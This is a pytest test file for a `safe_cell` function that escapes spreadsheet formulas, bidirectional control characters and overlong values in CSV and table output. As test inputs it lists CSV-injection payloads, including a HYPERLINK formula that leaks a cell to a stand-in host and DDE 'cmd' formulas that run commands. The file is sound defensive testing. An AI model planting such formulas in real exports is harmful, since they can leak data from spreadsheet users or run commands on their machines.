"""Every cell of a CSV file or a table the CLI writes is safe to open in a spreadsheet:
no formula runs, no bidirectional control turns text around, no value floods a cell.
`safe_cell` is the one rule; `onramp reconcile --format csv` is shown to use it in
tests/reconciliation/test_bad_records.py."""

from __future__ import annotations

import pytest

from service.reports import CELL_LIMIT, CUT_MARK, print_report, safe_cell

# What OWASP's CSV injection page and the outside review sent in Stripe's fields.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    "-1.00+1",
    "\t=1+2",
    "\r=1+2",
]
BIDI = ["\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068"]
BIDI += ["\u2069", "\u200e", "\u200f", "\u061c"]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_cell_a_spreadsheet_would_run_is_shown_as_text(formula: str) -> None:
    assert safe_cell(formula) == "'" + formula


@pytest.mark.parametrize("number", ["-1.00", "-12", "0", "98.49", "1500000.000000000001"])
def test_a_plain_decimal_stays_a_number_negative_ones_too(number: str) -> None:
    assert safe_cell(number) == number


@pytest.mark.parametrize("control", BIDI)
def test_bidirectional_controls_are_shown_escaped(control: str) -> None:
    shown = safe_cell(f"usd{control}gnp")
    assert shown == f"usd\\u{ord(control):04x}gnp"
    assert not any(c in shown for c in BIDI)


def test_an_overlong_value_is_cut_with_a_mark() -> None:
    status = "requires_payment" * 12_500  # 200,000 characters
    shown = safe_cell(status)
    assert shown == status[:CELL_LIMIT] + CUT_MARK
    assert safe_cell("x" * CELL_LIMIT) == "x" * CELL_LIMIT


def test_one_value_with_every_trouble_gets_every_remedy() -> None:
    shown = safe_cell("=\u202e" + "A" * 300)
    assert shown == "'=\\u202e" + "A" * (CELL_LIMIT - 2) + CUT_MARK


def test_plain_text_and_nothing_pass_as_they_are() -> None:
    assert safe_cell("fulfillment_complete") == "fulfillment_complete"
    assert safe_cell("it's = fine") == "it's = fine"
    assert safe_cell(None) == ""
    assert safe_cell(-3) == "-3"


def test_a_table_shows_cells_safe_and_never_as_markup(capsys: pytest.CaptureFixture[str]) -> None:
    rows = [{"id": "=cmd|' /C calc'!A0", "note": "[bold red]paid[/] :warning:", "outcome": "ok"}]
    print_report(rows, [("id", "Id"), ("note", "Note")], as_json=False, title="Rows")
    printed = capsys.readouterr().out
    assert "'=cmd|' /C calc'!A0" in printed
    assert "[bold red]paid[/] :warning:" in printed
